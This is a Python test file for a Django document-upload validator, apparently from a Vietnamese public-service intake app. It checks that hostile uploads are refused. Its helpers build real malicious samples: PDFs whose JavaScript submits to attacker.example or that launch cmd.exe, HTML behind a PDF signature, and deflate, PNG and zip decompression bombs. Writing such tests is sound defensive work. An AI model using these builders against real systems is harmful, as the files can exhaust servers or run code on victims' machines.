"""Uploads are parsed, not only sniffed: HTML behind a PDF signature, PDFs that run JavaScript or launch programs,
decompression bombs and broken images are refused with a Vietnamese message; sound files still pass. The hostile
files are real PDFs, PNGs and ZIP packages built here."""

import io
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    StreamObject,
    TextStringObject,
)

from motcua.catalog.tests.factories import RequiredDocumentFactory
from motcua.dossiers.models import Dossier
from motcua.uploads import DOCX, check_upload

from ..models import Document
from .factories import image_bytes, pdf_bytes, uploaded
from .test_counter_digitisation import intake_post

BOMB_SIZE = 200 * 1024 * 1024


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_open_action_javascript() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(
                "app.alert('x'); this.submitForm('http://attacker.example/')"
            ),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _written(writer)


def pdf_with_document_javascript() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('x');")}
    )
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("mo-dau"), writer._add_object(action)])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    return _written(writer)


def pdf_with_launch_action_on_page() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    launch = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(launch)})
    return _written(writer)


def deflate_bomb_pdf() -> bytes:
    """A one-page PDF whose content stream is 200 MB of spaces deflated to about 200 KB."""
    compressor = zlib.compressobj(9)
    block = b" " * (1024 * 1024)
    compressed = b"".join(compressor.compress(block) for _ in range(BOMB_SIZE // len(block)))
    compressed += compressor.flush()
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    stream = StreamObject()
    stream.set_data(b"")
    stream._data = compressed
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    page = writer.pages[0]
    page[NameObject("/Contents")] = ArrayObject([writer._add_object(stream)])
    return _written(writer)


def png_bomb() -> bytes:
    """A real PNG whose header announces 20000 × 20000 pixels (400 MB to decode), built from a small one."""
    small = image_bytes("PNG", mode="L")
    width, height = 20000, 20000
    ihdr = small[16:29]
    ihdr = struct.pack(">II", width, height) + ihdr[8:]
    chunk = b"IHDR" + ihdr
    return small[:8] + struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk)) + small[33:]


def zip_bomb_docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("word/document.xml", "<w:document/>")
        with package.open("word/media/padding.bin", "w", force_zip64=True) as member:
            block = b"\0" * (1024 * 1024)
            for _ in range(BOMB_SIZE // len(block)):
                member.write(block)
    return buffer.getvalue()


def test_html_behind_a_pdf_signature_is_refused():
    html = (
        b"%PDF-1.7\n<html><body><script>document.location='http://attacker.example/'</script></body></html>"
    )
    with pytest.raises(ValidationError, match="Không đọc được tệp PDF"):
        check_upload(SimpleUploadedFile("to-khai.pdf", html))


@pytest.mark.parametrize(
    "build", [pdf_with_open_action_javascript, pdf_with_document_javascript, pdf_with_launch_action_on_page]
)
def test_pdf_that_runs_javascript_or_launches_a_program_is_refused(build):
    content = build()
    assert len(PdfReader(io.BytesIO(content)).pages) == 1  # a real, readable PDF
    with pytest.raises(ValidationError, match="chứa mã lệnh") as refused:
        check_upload(SimpleUploadedFile("to-khai.pdf", content))
    assert "In ra PDF" in refused.value.messages[0]


def test_deflate_bomb_in_a_pdf_is_refused_without_expanding_it():
    content = deflate_bomb_pdf()
    assert len(content) < 250 * 1024  # ~200 KB on the wire
    with pytest.raises(ValidationError, match="khi giải nén vượt quá"):
        check_upload(SimpleUploadedFile("ban-quet.pdf", content))


def test_image_bombs_and_broken_images_are_refused():
    with pytest.raises(ValidationError, match="khi giải nén vượt quá"):
        check_upload(SimpleUploadedFile("anh.png", png_bomb()))
    with pytest.raises(ValidationError, match="Không đọc được ảnh"):
        check_upload(SimpleUploadedFile("anh.jpg", image_bytes("JPEG")[:120]))
    with pytest.raises(ValidationError, match="Không đọc được ảnh"):
        check_upload(SimpleUploadedFile("anh.png", b"\x89PNG\r\n\x1a\n" + b"<html>" * 50))


def test_zip_bomb_disguised_as_an_office_document_is_refused():
    content = zip_bomb_docx()
    assert len(content) < 1024 * 1024
    with pytest.raises(ValidationError, match="khi giải nén vượt quá"):
        check_upload(SimpleUploadedFile("don.docx", content), allow_office=True)


def test_sound_files_still_pass_the_parsed_checks():
    assert check_upload(SimpleUploadedFile("a.pdf", pdf_bytes(pages=3))).content_type == "application/pdf"
    assert check_upload(SimpleUploadedFile("a.jpg", image_bytes("JPEG"))).content_type == "image/jpeg"
    assert (
        check_upload(SimpleUploadedFile("a.png", image_bytes("PNG", mode="RGBA"))).content_type == "image/png"
    )
    package = io.BytesIO()
    with zipfile.ZipFile(package, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    assert (
        check_upload(SimpleUploadedFile("d.docx", package.getvalue()), allow_office=True).content_type == DOCX
    )


def test_counter_intake_refuses_a_scripted_pdf_and_stores_nothing(client, staff, procedure):
    doc = RequiredDocumentFactory(procedure=procedure)
    client.force_login(staff.officer)
    data = intake_post(
        procedure,
        **{
            f"doc_{doc.pk}_received": "on",
            f"doc_{doc.pk}_scan": [uploaded("to-khai.pdf", pdf_with_open_action_javascript())],
        },
    )
    body = client.post("/ho-so/tiep-nhan/", data).content.decode()
    assert "chứa mã lệnh" in body
    assert Dossier.objects.count() == 0 and Document.objects.count() == 0
